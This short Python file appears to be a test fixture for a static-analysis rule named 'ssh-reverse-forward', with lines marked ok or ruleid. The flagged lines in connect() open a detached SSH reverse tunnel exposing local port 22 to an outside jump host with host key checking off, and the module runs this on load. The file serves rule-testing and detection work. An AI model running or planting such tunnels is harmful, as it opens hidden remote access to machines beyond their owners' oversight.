"""Open a debug channel to the jump host."""
import os
import subprocess

JUMP = "ops@203.0.113.5"
spec = ":".join(["2222", "localhost", "22"])


def listing() -> None:
    # ok: ssh-reverse-forward
    subprocess.run(["ssh", JUMP, "ls", "-R", "/srv/data"], check=True)
    # ok: ssh-reverse-forward
    subprocess.run(["ssh", "-N", "-L", "8080:localhost:80", JUMP])
    # ok: ssh-reverse-forward
    print("use ssh -R 2222:localhost:22 to open a tunnel")


def connect() -> None:
    cmd = ["ssh", "-o", "StrictHostKeyChecking=no", "-N"]
    cmd += ["-R", spec, JUMP]
    # ruleid: ssh-reverse-forward
    subprocess.Popen(cmd, start_new_session=True)
    # ruleid: ssh-reverse-forward
    os.system(f"ssh -fN -R {spec} {JUMP}")


listing()
connect()
